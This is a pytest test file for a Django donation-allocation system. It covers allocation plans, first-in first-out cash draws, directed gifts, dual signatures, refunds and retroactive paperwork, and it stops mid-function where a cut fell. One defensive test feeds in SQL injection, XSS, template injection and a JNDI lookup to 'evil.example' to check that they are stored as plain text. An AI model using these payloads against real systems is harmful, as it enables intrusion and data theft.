"""Allocations (拨付 / 物资调拨令): plans, the first-in first-out draw, directed gifts, two signatures,
the recipient's sign-off, retroactive paperwork and the public trace (issue 4)."""

from datetime import timedelta
from decimal import Decimal

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.db import connection
from django.urls import reverse
from django.utils import timezone

from donations.models import (
    Allocation,
    AllocationBasis,
    AllocationPlan,
    AllocationPlanLine,
    AllocationSource,
    AllocationStatus,
    Donation,
    DonationStatus,
    Recipient,
    RecipientConfirmation,
    StockMovement,
)
from donations.selectors.books import campaign_books
from donations.selectors.trace import donation_trace
from donations.services.allocations import (
    allocation_cancel,
    allocation_confirm,
    allocation_plan_register,
    allocation_register_cash,
    allocation_register_goods,
    recipient_confirmation_record,
)
from donations.services.intake import donation_confirm, donation_register
from donations.services.refunds import donation_record_refund
from donations.services.retroactive import retroactive_register
from donations.services.warehouse import stock_in_check, stock_movement_confirm
from redcross.signoff import DualSignatureRequired
from tests.donations.factories import (
    CampaignFactory,
    OrganisationDonorFactory,
    PersonDonorFactory,
    RecipientFactory,
    WarehouseFactory,
)
from tests.factories import StaffFactory

pytestmark = pytest.mark.django_db

PLAN_NUMBER = "测防指〔2026〕1号"
GOODS = [
    {"name": "医用外科口罩", "quantity": "2000", "unit": "只", "unit_value": "1.20", "value_basis": "invoice"},
    {"name": "消毒液", "quantity": "50", "unit": "桶"},  # no evidence of value: counted in quantities only
]


# --- helpers ------------------------------------------------------------------------------------


def ago(**delta):
    return timezone.now() - timedelta(**delta)


def gift(clerk, reviewer, branch, campaign, amount="100.00", *, hours=1, confirm=True, **overrides) -> Donation:
    """A cash gift registered by the clerk and (unless ``confirm=False``) confirmed by the reviewer."""
    arguments = {
        "by": clerk,
        "branch": branch,
        "donor": PersonDonorFactory(branch=branch),
        "campaign": campaign,
        "kind": "cash",
        "channel": "bank",
        "received_at": ago(hours=hours),
        "amount": amount,
    }
    arguments.update(overrides)
    donation = donation_register(**arguments)
    if confirm:
        donation = donation_confirm(donation=donation, by=reviewer)
    return Donation.objects.get(pk=donation.pk)


def goods_gift(clerk, reviewer, branch, campaign, items=GOODS, **overrides) -> Donation:
    return gift(clerk, reviewer, branch, campaign, None, kind="in_kind", channel="on_site", items=items, **overrides)


def pay(by, campaign, recipient, amount, *, plan_line=None, directed=None, **overrides) -> Allocation:
    return allocation_register_cash(
        by=by,
        campaign=campaign,
        recipient=recipient,
        amount=amount,
        allocated_on=timezone.localdate(),
        plan_line=plan_line,
        directed_donation=directed,
        **overrides,
    )


def sources_of(allocation: Allocation) -> list[tuple[int, Decimal]]:
    return [(source.donation_id, source.amount) for source in allocation.sources.order_by("id")]


def allocated(*donations: Donation) -> list[Decimal]:
    return [Donation.objects.get(pk=donation.pk).allocated_amount for donation in donations]


def make_plan(by, branch, lines, *, number=PLAN_NUMBER, **overrides) -> AllocationPlan:
    arguments = {
        "by": by,
        "branch": branch,
        "document_number": number,
        "title": "第一批社会捐赠款物分配方案",
        "issuing_body": "测试市新冠肺炎疫情防控指挥部",
        "issued_on": timezone.localdate() - timedelta(days=1),
        "lines": lines,
    }
    arguments.update(overrides)
    return allocation_plan_register(**arguments)


def line_of(plan: AllocationPlan, recipient: Recipient, kind: str = "cash") -> AllocationPlanLine:
    return plan.lines.get(recipient=recipient, kind=kind)


def stocked(item, warehouse, keeper_a, keeper_b):
    movement = stock_in_check(
        by=keeper_a, item=item, warehouse=warehouse, counted_quantity=item.quantity, condition="包装完好"
    )
    return stock_movement_confirm(movement=movement, by=keeper_b)


# --- fixtures -----------------------------------------------------------------------------------


@pytest.fixture
def hospital(city):
    return RecipientFactory(branch=city, name="测试市第一人民医院", kind=Recipient.Kind.HOSPITAL)


@pytest.fixture
def cdc(city):
    return RecipientFactory(branch=city, name="测试市疾病预防控制中心", kind=Recipient.Kind.CDC)


@pytest.fixture
def plan(clerk, city, campaign, hospital, cdc):
    return make_plan(
        clerk,
        city,
        [
            {"kind": "cash", "campaign": campaign, "recipient": hospital, "amount": "1000000.00"},
            {"kind": "cash", "campaign": campaign, "recipient": cdc, "amount": "300.00"},
            {
                "kind": "in_kind",
                "campaign": campaign,
                "recipient": hospital,
                "item_name": "医用外科口罩",
                "quantity": "5000",
                "unit": "只",
            },
        ],
    )


@pytest.fixture
def keeper_a(city):
    return StaffFactory(branch=city, roles=["warehouse_keeper"], last_name="赵", first_name="建国")


@pytest.fixture
def keeper_b(city):
    return StaffFactory(branch=city, roles=["warehouse_keeper"], last_name="钱", first_name="卫东")


@pytest.fixture
def warehouse(city):
    return WarehouseFactory(branch=city, name="市红十字会救灾物资仓库")


# --- allocation plans (分配方案) -----------------------------------------------------------------


def test_a_plan_is_registered_with_its_lines(clerk, plan, campaign, hospital):
    assert plan.document_number == PLAN_NUMBER
    assert plan.created_by == clerk
    assert plan.lines.count() == 3
    cash_line = line_of(plan, hospital)
    assert cash_line.amount == Decimal("1000000.00")
    goods_line = line_of(plan, hospital, "in_kind")
    assert (goods_line.item_name, goods_line.quantity, goods_line.unit) == ("医用外科口罩", Decimal("5000"), "只")
    assert plan.history.first().history_user == clerk


def _cash_line(ctx, **overrides):
    line = {"kind": "cash", "campaign": ctx["campaign"], "recipient": ctx["hospital"], "amount": "1000.00"}
    line.update(overrides)
    return line


def _goods_line(ctx, **overrides):
    line = {"kind": "in_kind", "campaign": ctx["campaign"], "recipient": ctx["hospital"], "item_name": "口罩"}
    line.update({"quantity": "100", "unit": "箱", **overrides})
    return line


BAD_PLANS = [
    ("document_number", lambda ctx: {"document_number": ""}),
    ("document_number", lambda ctx: {"document_number": "   "}),
    ("document_number", lambda ctx: {"document_number": None}),
    ("document_number", lambda ctx: {"document_number": "文" * 81}),
    ("title", lambda ctx: {"title": ""}),
    ("issuing_body", lambda ctx: {"issuing_body": None}),
    ("issued_on", lambda ctx: {"issued_on": timezone.localdate() + timedelta(days=1)}),
    ("issued_on", lambda ctx: {"issued_on": "2026-01-01"}),
    ("lines", lambda ctx: {"lines": []}),
    ("lines[0].kind", lambda ctx: {"lines": [_cash_line(ctx, kind="gold")]}),
    ("lines[0].kind", lambda ctx: {"lines": [_cash_line(ctx, kind=None)]}),
    ("lines[1].kind", lambda ctx: {"lines": [_cash_line(ctx), _cash_line(ctx, kind="CASH")]}),
    ("lines[0].campaign", lambda ctx: {"lines": [_cash_line(ctx, campaign=None)]}),
    ("lines[0].campaign", lambda ctx: {"lines": [_cash_line(ctx, campaign=ctx["campaign"].pk)]}),
    ("lines[0].campaign", lambda ctx: {"lines": [_cash_line(ctx, campaign=ctx["west_campaign"])]}),
    ("lines[0].recipient", lambda ctx: {"lines": [_cash_line(ctx, recipient=999999)]}),
    ("lines[0].recipient", lambda ctx: {"lines": [_cash_line(ctx, recipient=None)]}),
    ("lines[0].recipient", lambda ctx: {"lines": [_cash_line(ctx, recipient=ctx["inactive"])]}),
    ("lines[0].amount", lambda ctx: {"lines": [_cash_line(ctx, amount="10000000000.01")]}),
    ("lines[0].amount", lambda ctx: {"lines": [_cash_line(ctx, amount="9" * 40)]}),
    ("lines[0].amount", lambda ctx: {"lines": [_cash_line(ctx, amount="1e30")]}),
    ("lines[0].amount", lambda ctx: {"lines": [_cash_line(ctx, amount=None)]}),
    ("lines[0].amount", lambda ctx: {"lines": [_cash_line(ctx, amount="-1.00")]}),
    ("lines[0].amount", lambda ctx: {"lines": [_cash_line(ctx, amount="0.001")]}),
    ("lines[0].amount", lambda ctx: {"lines": [_cash_line(ctx, amount=0.1)]}),  # a float is never money
    ("lines[0].quantity", lambda ctx: {"lines": [_goods_line(ctx, quantity="1000000001")]}),
    ("lines[0].quantity", lambda ctx: {"lines": [_goods_line(ctx, quantity="NaN")]}),
    ("lines[0].quantity", lambda ctx: {"lines": [_goods_line(ctx, quantity="Infinity")]}),
    ("lines[0].quantity", lambda ctx: {"lines": [_goods_line(ctx, quantity="0")]}),
    ("lines[0].item_name", lambda ctx: {"lines": [_goods_line(ctx, item_name=" ")]}),
    ("lines[0].unit", lambda ctx: {"lines": [_goods_line(ctx, unit="")]}),
    ("lines[0].note", lambda ctx: {"lines": [_cash_line(ctx, note="备" * 201)]}),
]


@pytest.mark.parametrize(("field", "build"), BAD_PLANS)
def test_bad_plan_input_names_the_field_and_writes_nothing(clerk, city, campaign, hospital, branch_tree, field, build):
    ctx = {
        "campaign": campaign,
        "hospital": hospital,
        "west_campaign": CampaignFactory(branch=branch_tree["west"]),
        "inactive": RecipientFactory(branch=city, is_active=False),
    }
    arguments = {"lines": [_cash_line(ctx)], **build(ctx)}
    with pytest.raises(ValidationError) as excinfo:
        make_plan(clerk, city, **arguments)
    assert field in excinfo.value.message_dict, excinfo.value.message_dict
    assert not AllocationPlan.objects.exists()
    assert not AllocationPlanLine.objects.exists()


def test_a_document_number_is_registered_once_per_branch(clerk, city, campaign, hospital, east_staff, branch_tree):
    lines = [{"kind": "cash", "campaign": campaign, "recipient": hospital, "amount": "100.00"}]
    make_plan(clerk, city, lines)
    with pytest.raises(ValidationError) as excinfo:
        make_plan(clerk, city, lines, number=f"  {PLAN_NUMBER} ")  # the same number, typed with spaces
    assert "document_number" in excinfo.value.message_dict
    assert AllocationPlan.objects.count() == 1
    # another branch may have a document of its own with the same number
    make_plan(east_staff, branch_tree["east"], lines)
    assert AllocationPlan.objects.count() == 2


def test_malicious_plan_texts_are_stored_as_plain_text(clerk, city, campaign, hospital):
    texts = {
        "document_number": "测防指〔2026〕2号'; DROP TABLE donations_allocationplan; --",
        "title": "<script>alert('拨付')</script>",
        "issuing_body": "{{ settings.SECRET_KEY }} ${jndi:ldap://evil.example/x}",
        "note": "' OR '1'='1 -- %s %(x)s \\x27 ＜全角＞",
    }
    line_note = "<img src=x onerror=alert(1)>"
    plan = make_plan(
        clerk,
        city,
        [{"kind": "cash", "campaign": campaign, "recipient": hospital, "amount": "1.00", "note": line_note}],
        **texts,
    )
    stored = AllocationPlan.objects.get(pk=plan.pk)
    for field, value in texts.items():
        assert getattr(stored, field) == value
    assert stored.lines.get().note == line_note
    assert AllocationPlan.objects.filter(document_number=texts["document_number"]).count() == 1


def test_only_staff_with_the_permission_of_the_branch_register_plans(reviewer, keeper_a, east_staff, city, campaign):
    lines = [{"kind": "cash", "campaign": campaign, "recipient": RecipientFactory(branch=city), "amount": "1.00"}]
    for user in (reviewer, keeper_a):
        with pytest.raises(PermissionDenied):
            make_plan(user, city, lines)
    with pytest.raises(PermissionDenied):
        make_plan(east_staff, city, lines)  # district staff, the city's plan
    assert not AllocationPlan.objects.exists()


# --- cash: the undirected pool, first in first out ---------------------------------------------


def test_undirected_cash_is_drawn_first_in_first_out_by_received_time(clerk, reviewer, city, campaign, plan, hospital):
    # registered in another order than they arrived: the draw follows the received time, not the ids
    b = gift(clerk, reviewer, city, campaign, "200.00", hours=3)
    a = gift(clerk, reviewer, city, campaign, "100.00", hours=5)
    c = gift(clerk, reviewer, city, campaign, "300.00", hours=4)
    directed = gift(clerk, reviewer, city, campaign, "1000.00", hours=9, designated_recipient=hospital, wish="定向")
    unconfirmed = gift(clerk, reviewer, city, campaign, "500.00", hours=8, confirm=False)
    elsewhere = gift(clerk, reviewer, city, CampaignFactory(branch=city), "500.00", hours=7)

    first = pay(clerk, campaign, hospital, "350.00", plan_line=line_of(plan, hospital))
    assert (first.basis, first.status, first.kind) == (AllocationBasis.PLAN, AllocationStatus.REGISTERED, "cash")
    assert first.amount == Decimal("350.00")
    assert first.serial == f"{city.code}BF{timezone.localdate().year}-000001"
    assert sources_of(first) == [(a.pk, Decimal("100.00")), (c.pk, Decimal("250.00"))]
    assert allocated(a, c, b) == [Decimal("100.00"), Decimal("250.00"), Decimal("0.00")]
    assert Donation.objects.get(pk=c.pk).cash_remaining == Decimal("50.00")
    assert Donation.objects.get(pk=a.pk).cash_remaining == Decimal("0.00")

    second = pay(clerk, campaign, hospital, "100.00", plan_line=line_of(plan, hospital))
    assert sources_of(second) == [(c.pk, Decimal("50.00")), (b.pk, Decimal("50.00"))]
    assert allocated(a, c, b) == [Decimal("100.00"), Decimal("300.00"), Decimal("50.00")]
    # never drawn: the directed gift, the unconfirmed one, the other campaign's
    assert allocated(directed, unconfirmed, elsewhere) == [Decimal("0.00")] * 3
    assert sum(s.amount for s in AllocationSource.objects.all()) == Decimal("450.00")


def test_an_amount_that_ends_exactly_on_a_gift_takes_nothing_from_the_next(
    clerk, reviewer, city, campaign, plan, hospital
):
    a = gift(clerk, reviewer, city, campaign, "100.00", hours=3)
    b = gift(clerk, reviewer, city, campaign, "100.00", hours=2)
    c = gift(clerk, reviewer, city, campaign, "100.00", hours=1)
    first = pay(clerk, campaign, hospital, "100.00", plan_line=line_of(plan, hospital))
    assert sources_of(first) == [(a.pk, Decimal("100.00"))]
    second = pay(clerk, campaign, hospital, "150.00", plan_line=line_of(plan, hospital))
    assert sources_of(second) == [(b.pk, Decimal("100.00")), (c.pk, Decimal("50.00"))]
    third = pay(clerk, campaign, hospital, "50.00", plan_line=line_of(plan, hospital))
    assert sources_of(third) == [(c.pk, Decimal("50.00"))]
    assert allocated(a, b, c) == [Decimal("100.00")] * 3
    assert not AllocationSource.objects.filter(amount__lte=0).exists()


def test_gifts_received_at_the_same_moment_are_drawn_in_registration_order(
    clerk, reviewer, city, campaign, plan, hospital
):
    moment = ago(hours=2)
    first = gift(clerk, reviewer, city, campaign, "10.00", received_at=moment)
    second = gift(clerk, reviewer, city, campaign, "10.00", received_at=moment)
    allocation = pay(clerk, campaign, hospital, "15.00", plan_line=line_of(plan, hospital))
    assert sources_of(allocation) == [(first.pk, Decimal("10.00")), (second.pk, Decimal("5.00"))]


def test_a_pool_too_small_is_refused_with_a_clear_message_and_nothing_written(
    clerk, reviewer, city, campaign, plan, hospital
):
    a = gift(clerk, reviewer, city, campaign, "100.00", hours=2)
    b = gift(clerk, reviewer, city, campaign, "50.50", hours=1)
    with pytest.raises(ValidationError) as excinfo:
        pay(clerk, campaign, hospital, "150.51", plan_line=line_of(plan, hospital))
    message = excinfo.value.message_dict["amount"][0]
    assert "150.50" in message
    assert "150.51" in message
    assert not Allocation.objects.exists()
    assert not AllocationSource.objects.exists()
    assert allocated(a, b) == [Decimal("0.00"), Decimal("0.00")]
    # the refused draw burnt no serial, and the exact pool can be taken
    allocation = pay(clerk, campaign, hospital, "150.50", plan_line=line_of(plan, hospital))
    assert allocation.serial.endswith("-000001")
    assert [Donation.objects.get(pk=d.pk).cash_remaining for d in (a, b)] == [Decimal("0.00")] * 2


@pytest.mark.parametrize(
    ("amount", "message"),
    [("0", "大于零"), ("-1.00", "大于零"), ("10000000000.01", "一百亿"), ("1.001", "两位小数"), ("", "请填写")],
)
def test_bad_cash_amounts_are_refused(clerk, reviewer, city, campaign, plan, hospital, amount, message):
    gift(clerk, reviewer, city, campaign, "100.00")
    with pytest.raises(ValidationError) as excinfo:
        pay(clerk, campaign, hospital, amount, plan_line=line_of(plan, hospital))
    assert message in excinfo.value.message_dict["amount"][0]
    assert not Allocation.objects.exists()


def test_bad_dates_and_recipients_are_refused(clerk, reviewer, city, campaign, plan, hospital):
    gift(clerk, reviewer, city, campaign, "100.00")
    with pytest.raises(ValidationError) as excinfo:
        allocation_register_cash(
            by=clerk,
            campaign=campaign,
            recipient=hospital,
            amount="1.00",
            allocated_on=timezone.localdate() + timedelta(days=1),
            plan_line=line_of(plan, hospital),
        )
    assert "allocated_on" in excinfo.value.message_dict
    hospital.is_active = False
    hospital.save()
    with pytest.raises(ValidationError) as excinfo:
        pay(clerk, campaign, hospital, "1.00", plan_line=line_of(plan, hospital))
    assert "recipient" in excinfo.value.message_dict
    assert not Allocation.objects.exists()


def test_the_plan_line_must_match_campaign_recipient_and_kind(clerk, reviewer, city, campaign, plan, hospital, cdc):
    other_campaign = CampaignFactory(branch=city)
    gift(clerk, reviewer, city, campaign, "1000.00")
    gift(clerk, reviewer, city, other_campaign, "1000.00")
    attempts = [
        (campaign, cdc, line_of(plan, hospital)),  # the line is for the hospital
        (other_campaign, hospital, line_of(plan, hospital)),  # the line is for another campaign
        (campaign, hospital, line_of(plan, hospital, "in_kind")),  # a goods line for cash
        (campaign, hospital, None),  # undirected cash needs a plan line
    ]
    for target_campaign, recipient, plan_line in attempts:
        with pytest.raises(ValidationError) as excinfo:
            pay(clerk, target_campaign, recipient, "10.00", plan_line=plan_line)
        assert "plan_line" in excinfo.value.message_dict
    assert not Allocation.objects.exists()
    assert not AllocationSource.objects.exists()


def test_a_plan_line_cannot_be_overdrawn_and_cancelled_allocations_do_not_count(
    clerk, reviewer, city, campaign, plan, cdc
):
    gift(clerk, reviewer, city, campaign, "1000.00")
    cdc_line = line_of(plan, cdc)  # 300.00
    first = pay(clerk, campaign, cdc, "200.00", plan_line=cdc_line)
    with pytest.raises(ValidationError) as excinfo:
        pay(clerk, campaign, cdc, "100.01", plan_line=cdc_line)
    message = excinfo.value.message_dict["amount"][0]
    assert "超出分配方案" in message
    assert "300.00" in message
    assert "200.00" in message
    assert Allocation.objects.count() == 1
    pay(clerk, campaign, cdc, "100.00", plan_line=cdc_line)  # exactly what is left of the line
    allocation_cancel(allocation=first, by=clerk, reason="受赠单位更改")
    pay(clerk, campaign, cdc, "200.00", plan_line=cdc_line)
    assert campaign_books(campaign).cash_reserved == Decimal("300.00")


# --- directed gifts (定向) ----------------------------------------------------------------------


def test_directed_cash_goes_only_to_its_designated_recipient(clerk, reviewer, city, campaign, hospital, cdc):
    directed = gift(clerk, reviewer, city, campaign, "1000.00", designated_recipient=hospital, wish="捐给第一人民医院")
    undirected = gift(clerk, reviewer, city, campaign, "500.00")
    with pytest.raises(ValidationError) as excinfo:
        pay(clerk, campaign, cdc, "100.00", directed=directed)
    message = excinfo.value.message_dict["recipient"][0]
    assert directed.serial in message
    assert hospital.name in message
    with pytest.raises(ValidationError) as excinfo:
        pay(clerk, campaign, hospital, "100.00", directed=undirected)
    assert "directed_donation" in excinfo.value.message_dict
    with pytest.raises(ValidationError) as excinfo:
        pay(clerk, campaign, hospital, "1000.01", directed=directed)
    assert "1000.00" in excinfo.value.message_dict["amount"][0]
    with pytest.raises(ValidationError) as excinfo:
        pay(clerk, campaign, hospital, "1.00", directed=999999)
    assert "directed_donation" in excinfo.value.message_dict
    assert not Allocation.objects.exists()

    allocation = pay(clerk, campaign, hospital, "400.00", directed=directed)
    assert allocation.basis == AllocationBasis.DONOR_WISH
    assert allocation.plan_line is None
    assert sources_of(allocation) == [(directed.pk, Decimal("400.00"))]
    assert allocated(directed, undirected) == [Decimal("400.00"), Decimal("0.00")]
    rest = pay(clerk, campaign, hospital, "600.00", directed=directed)
    assert sources_of(rest) == [(directed.pk, Decimal("600.00"))]
    assert Donation.objects.get(pk=directed.pk).cash_remaining == Decimal("0.00")


def test_only_confirmed_directed_gifts_of_the_campaign_are_allocated(clerk, reviewer, city, campaign, hospital):
    unconfirmed = gift(clerk, reviewer, city, campaign, "100.00", designated_recipient=hospital, confirm=False)
    elsewhere = gift(clerk, reviewer, city, CampaignFactory(branch=city), "100.00", designated_recipient=hospital)
    for donation in (unconfirmed, elsewhere):
        with pytest.raises(ValidationError) as excinfo:
            pay(clerk, campaign, hospital, "10.00", directed=donation)
        assert "directed_donation" in excinfo.value.message_dict
    assert not Allocation.objects.exists()


def test_directed_gifts_are_never_drawn_by_the_undirected_pool(clerk, reviewer, city, campaign, plan, hospital):
    directed = gift(clerk, reviewer, city, campaign, "5000.00", hours=10, designated_recipient=hospital)
    undirected = gift(clerk, reviewer, city, campaign, "100.00", hours=1)
    with pytest.raises(ValidationError) as excinfo:
        pay(clerk, campaign, hospital, "100.01", plan_line=line_of(plan, hospital))  # even for its own recipient
    assert "100.00" in excinfo.value.message_dict["amount"][0]
    allocation = pay(clerk, campaign, hospital, "100.00", plan_line=line_of(plan, hospital))
    assert sources_of(allocation) == [(undirected.pk, Decimal("100.00"))]
    assert allocated(directed) == [Decimal("0.00")]


# --- two signatures (双人双签), cancelling, branches, refunds ------------------------------------


def test_an_allocation_counts_only_once_a_second_person_confirms_it(
    clerk, reviewer, keeper_a, city, campaign, plan, hospital
):
    gift(clerk, reviewer, city, campaign, "1000.00")
    both = StaffFactory(branch=city, roles=["donation_clerk", "finance_reviewer"])
    allocation = pay(both, campaign, hospital, "300.00", plan_line=line_of(plan, hospital))
    with pytest.raises(DualSignatureRequired, match="双人双签"):
        allocation_confirm(allocation=allocation, by=both)
    other_clerk = StaffFactory(branch=city, roles=["donation_clerk"])
    for user in (other_clerk, keeper_a):  # no confirm_allocation permission
        with pytest.raises(PermissionDenied) as excinfo:
            allocation_confirm(allocation=allocation, by=user)
        assert not isinstance(excinfo.value, DualSignatureRequired)
    allocation.refresh_from_db()
    assert (allocation.status, allocation.confirmed_by) == (AllocationStatus.REGISTERED, None)
    books = campaign_books(campaign)
    assert (books.cash_allocated, books.cash_reserved, books.cash_balance) == (
        Decimal("0.00"),
        Decimal("300.00"),
        Decimal("1000.00"),
    )

    confirmed = allocation_confirm(allocation=allocation, by=reviewer)
    assert confirmed.status == AllocationStatus.CONFIRMED
    assert confirmed.confirmed_by == reviewer
    assert confirmed.confirmed_at is not None
    assert Allocation.objects.get(pk=allocation.pk).history.first().history_user == reviewer
    books = campaign_books(campaign)
    assert (books.cash_allocated, books.cash_reserved, books.cash_balance) == (
        Decimal("300.00"),
        Decimal("0.00"),
        Decimal("700.00"),
    )
    assert books.is_balanced, books.discrepancies
    with pytest.raises(ValidationError) as excinfo:
        allocation_confirm(allocation=allocation, by=reviewer)
    assert "status" in excinfo.value.message_dict


def test_cancelling_releases_the_reserved_money(clerk, reviewer, city, campaign, plan, hospital):
    a = gift(clerk, reviewer, city, campaign, "100.00", hours=2)
    b = gift(clerk, reviewer, city, campaign, "200.00", hours=1)
    allocation = pay(clerk, campaign, hospital, "250.00", plan_line=line_of(plan, hospital))
    assert allocated(a, b) == [Decimal("100.00"), Decimal("150.00")]
    with pytest.raises(ValidationError) as excinfo:
        allocation_cancel(allocation=allocation, by=clerk, reason="  ")
    assert "reason" in excinfo.value.message_dict
    with pytest.raises(PermissionDenied):
        allocation_cancel(allocation=allocation, by=reviewer, reason="无撤销权限")
    assert allocated(a, b) == [Decimal("100.00"), Decimal("150.00")]

    allocation_cancel(allocation=allocation, by=clerk, reason="方案调整，改由下一批拨付")
    allocation.refresh_from_db()
    assert allocation.status == AllocationStatus.CANCELLED
    assert "方案调整" in allocation.note
    assert allocated(a, b) == [Decimal("0.00"), Decimal("0.00")]
    with pytest.raises(ValidationError):
        allocation_confirm(allocation=allocation, by=reviewer)
    assert campaign_books(campaign).cash_reserved == Decimal("0.00")

    again = pay(clerk, campaign, hospital, "300.00", plan_line=line_of(plan, hospital))
    assert sources_of(again) == [(a.pk, Decimal("100.00")), (b.pk, Decimal("200.00"))]
    allocation_confirm(allocation=again, by=reviewer)
    with pytest.raises(ValidationError) as excinfo:
        allocation_cancel(allocation=again, by=clerk, reason="已付款")
    assert "status" in excinfo.value.message_dict
    assert [step.allocation_serial for step in donation_trace(Donation.objects.get(pk=a.pk)).steps] == [again.serial]
    books = campaign_books(campaign)
    assert books.is_balanced, books.discrepancies


def test_district_staff_cannot_allocate_for_another_branch(branch_tree, clerk, reviewer, campaign, plan, hospital):
    city, east, west = branch_tree["city"], branch_tree["east"], branch_tree["west"]
    east_staff = StaffFactory(branch=east, roles=["district_staff"])
    gift(clerk, reviewer, city, campaign, "1000.00")
    east_gift = gift(east_staff, reviewer, east, campaign, "100.00")  # east takes gifts for the city campaign
    city_line = line_of(plan, hospital)
    with pytest.raises(PermissionDenied):
        pay(east_staff, campaign, hospital, "10.00", plan_line=city_line)  # the campaign's own branch: the city
    with pytest.raises(PermissionDenied):
        pay(east_staff, campaign, hospital, "10.00", plan_line=city_line, branch=west)
    assert not Allocation.objects.exists()

    own = pay(east_staff, campaign, hospital, "100.00", plan_line=city_line, branch=east)
    assert own.branch == east
    assert sources_of(own) == [(east_gift.pk, Decimal("100.00"))]  # east's own pool only
    with pytest.raises(ValidationError):
        pay(east_staff, campaign, hospital, "0.01", plan_line=city_line, branch=east)

    city_allocation = pay(clerk, campaign, hospital, "10.00", plan_line=city_line)
    with pytest.raises(PermissionDenied):
        allocation_cancel(allocation=city_allocation, by=east_staff, reason="不是本区的")
    west_staff = StaffFactory(branch=west, roles=["district_staff"])
    with pytest.raises(PermissionDenied):
        allocation_cancel(allocation=own, by=west_staff, reason="不是本区的")
    assert Allocation.objects.filter(status=AllocationStatus.CANCELLED).count() == 0


def test_refunds_cannot_take_money_already_allocated(clerk, reviewer, city, campaign, plan, hospital):
    paid_by = {"channel": "wechat", "channel_transaction_id": "4200000000202601010001"}
    donation = gift(clerk, reviewer, city, campaign, "1000.00", **paid_by)
    allocation = pay(clerk, campaign, hospital, "800.00", plan_line=line_of(plan, hospital))

    def refund(refund_id, amount):
        return donation_record_refund(
            by=clerk,
            channel="wechat",
            payment_transaction_id=paid_by["channel_transaction_id"],
            refund_id=refund_id,
            amount=amount,
            refunded_at=timezone.now(),
        )

    with pytest.raises(ValidationError) as excinfo:
        refund("50000000000000001", "200.01")
    assert "200.00" in excinfo.value.message_dict["amount"][0]
    assert Donation.objects.get(pk=donation.pk).refunded_amount == Decimal("0.00")
    refund("50000000000000002", "200.00")
    donation.refresh_from_db()
    assert (donation.refunded_amount, donation.allocated_amount, donation.cash_remaining) == (
        Decimal("200.00"),
        Decimal("800.00"),
        Decimal("0.00"),
    )
    with pytest.raises(ValidationError):
        pay(clerk, campaign, hospital, "0.01", plan_line=line_of(plan, hospital))
    allocation_confirm(allocation=allocation, by=reviewer)
    books = campaign_books(campaign)
    assert books.is_balanced, books.discrepancies
    assert (books.cash_received, books.cash_refunded, books.cash_balance) == (
        Decimal("800.00"),
        Decimal("200.00"),
        Decimal("0.00"),
    )


# --- retroactive paperwork (补办手续) -----------------------------------------------------------


def _retroactive(by, city, campaign, hospital, **overrides):
    arguments = {
        "by": by,
        "branch": city,
        "donor": OrganisationDonorFactory(branch=city, name="测试爱心医药有限公司"),
        "campaign": campaign,
        "recipient": hospital,
        "received_at": ago(hours=30),
        "items": GOODS,
        "signed_by_name": "李护士长",
        "signed_at": ago(hours=29),
    }
    arguments.update(overrides)
    return retroactive_register(**arguments)


def test_retroactive_paperwork_records_donation_allocation_and_sign_off_together(
    clerk, reviewer, keeper_a, warehouse, city, campaign, hospital
):
    allocation = _retroactive(clerk, city, campaign, hospital)
    donation = Donation.objects.get()
    assert donation.is_retroactive
    assert donation.designated_recipient == hospital
    assert (donation.kind, donation.status) == ("in_kind", DonationStatus.REGISTERED)
    assert allocation.is_retroactive
    assert (allocation.basis, allocation.status) == (AllocationBasis.RETROACTIVE, AllocationStatus.REGISTERED)
    assert (allocation.recipient, allocation.kind) == (hospital, "in_kind")
    sources = list(allocation.sources.select_related("item").order_by("id"))
    assert [(s.donation_id, s.item.name, s.quantity) for s in sources] == [
        (donation.pk, "医用外科口罩", Decimal("2000")),
        (donation.pk, "消毒液", Decimal("50")),
    ]
    confirmation = allocation.recipient_confirmation
    assert confirmation.signed_by_name == "李护士长"
    assert {key: Decimal(value) for key, value in confirmation.quantities_received.items()} == {
        str(s.pk): s.quantity for s in sources
    }
    assert not StockMovement.objects.exists()  # delivered straight to the recipient, never in a warehouse
    assert not donation_trace(donation)  # nothing public before the second signature

    donation_confirm(donation=donation, by=reviewer)
    allocation.refresh_from_db()
    assert allocation.status == AllocationStatus.CONFIRMED
    assert allocation.confirmed_by == reviewer
    # one history row per signature: registered, confirmed
    assert allocation.history.count() == 2
    trace = donation_trace(Donation.objects.get(pk=donation.pk))
    assert [(step.item_name, step.is_retroactive) for step in trace.steps] == [
        ("医用外科口罩", True),
        ("消毒液", True),
    ]
    assert all(step.recipient_signed_at == confirmation.signed_at for step in trace.steps)
    assert [quantity for _name, quantity, _unit in trace.quantities_remaining] == [Decimal("0"), Decimal("0")]
    books = campaign_books(campaign)
    assert books.is_balanced, books.discrepancies
    assert (books.goods_received, books.goods_allocated, books.in_stock) == (
        Decimal("2400.00"),
        Decimal("2400.00"),
        Decimal("0.00"),
    )
    assert books.unvalued_lots == 1
    with pytest.raises(ValidationError) as excinfo:
        stock_in_check(
            by=keeper_a, item=donation.items.first(), warehouse=warehouse, counted_quantity="1", condition="完好"
        )
    assert "item" in excinfo.value.message_dict


def test_retroactive_paperwork_needs_a_second_person_too(city, campaign, hospital):
    both = StaffFactory(branch=city, roles=["donation_clerk", "finance_reviewer"])
    allocation = _retroactive(both, city, campaign, hospital)
    with pytest.raises(DualSignatureRequired):
        donation_confirm(donation=Donation.objects.get(), by=both)
    allocation.refresh_from_db()
    assert allocation.status == AllocationStatus.REGISTERED
    assert Donation.objects.get().status == DonationStatus.REGISTERED


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"signed_by_name": " "}, "signed_by_name"),
        ({"signed_at": timezone.now() + timedelta(days=1)}, "signed_at"),
        ({"items": [{"name": "口罩", "quantity": "0", "unit": "只"}]}, "items[0].quantity"),
        ({"recipient": 999999}, "recipient"),
    ],
)
def test_bad_retroactive_paperwork_writes_nothing(clerk, city, campaign, hospital, overrides, field):
    with pytest.raises(ValidationError) as excinfo:
        _retroactive(clerk, city, campaign, hospital, **overrides)
    assert field in excinfo.value.message_dict
    assert not Donation.objects.exists()
    assert not Allocation.objects.exists()
    assert not RecipientConfirmation.objects.exists()


# --- the recipient's sign-off (清点、查验、入库) ---------------------------------------------------


def test_recipient_sign_off_of_cash(clerk, reviewer, city, campaign, plan, hospital):
    gift(clerk, reviewer, city, campaign, "1000.00")
    allocation = pay(clerk, campaign, hospital, "600.00", plan_line=line_of(plan, hospital))

    def sign(**overrides):
